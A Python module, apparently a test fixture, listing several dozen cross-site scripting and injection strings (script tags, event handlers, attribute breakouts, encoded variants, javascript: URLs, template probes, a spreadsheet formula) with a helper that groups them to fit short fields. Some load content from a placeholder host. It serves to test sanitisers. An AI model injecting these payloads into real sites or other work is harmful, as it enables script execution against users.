"""What somebody might type so that a page runs it: markup, attributes, styles, templates, odd signs."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)//",
    "<scr<script>ipt>alert(1)",
    "<script src=//e.test/x>",
    "<img src=x onerror=alert(1)>",
    "<img src=//e.test/1.gif>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><use href=//e.test/#x>",
    "<math><a xlink:href=//e.test>",
    "<body onload=alert(1)>",
    "<video src=//e.test/v>",
    "<audio src=x onerror=alert(1)>",
    "<iframe src=//e.test></iframe>",
    "<iframe srcdoc='<b>x'>",
    "<object data=//e.test>",
    "<embed src=//e.test>",
    "<link rel=stylesheet href=//e.test>",
    "<base href=//e.test>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//e.test><button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import'//e.test'</style>",
    "<style>*{display:none}</style>",
    "<b hx-get=//e.test hx-trigger=load>",
    "<b data-hx-get=/ data-hx-trigger=load>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)",
    "<plaintext>",
    "<!-- --!><svg onload=alert(1)>",
    "<![CDATA[<svg onload=alert(1)>]]>",
)
BREAKING_OUT = (
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onclick=alert(1) `",
    "</textarea><svg onload=alert(1)>",
    "</title><svg onload=alert(1)>",
    "</script><svg onload=alert(1)>",
    "</style><svg onload=alert(1)>",
    "</template><svg onload=alert(1)>",
    '");alert(1);//',
    "'-alert(1)-'",
    "\\u003csvg onload=alert(1)\\u003e",
    "&lt;svg onload=alert(1)&gt;",
    "&#60;svg onload=alert(1)&#62;",
    "%3Csvg onload=alert(1)%3E",
    "\uff1csvg onload=alert(1)\uff1e",
    "\u202esvg\u202c onload=alert(1)",
)
LANGUAGES = (
    "javascript:alert(1)",
    "data:text/html,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "{{ 7|add:'7' }}",
    "{% debug %}",
    "${alert(1)}",
    "%(alert)s {0} {x.__class__}",
    "url(//e.test/x)",
    "expression(alert(1))",
    "[x](javascript:alert(1))",
    "![x](//e.test/x.gif)",
    '=HYPERLINK("//e.test")',
)
PAYLOADS = (*MARKUP, *BREAKING_OUT, *LANGUAGES)
WHOLE = " ".join(PAYLOADS)


def groups(longest: int) -> list[str]:
    """The payloads joined, each group as long as a short field holds."""
    found = [""]
    for payload in PAYLOADS:
        joined = f"{found[-1]} {payload}".strip()
        if len(joined) > longest:
            found.append(payload)
        else:
            found[-1] = joined
    return found
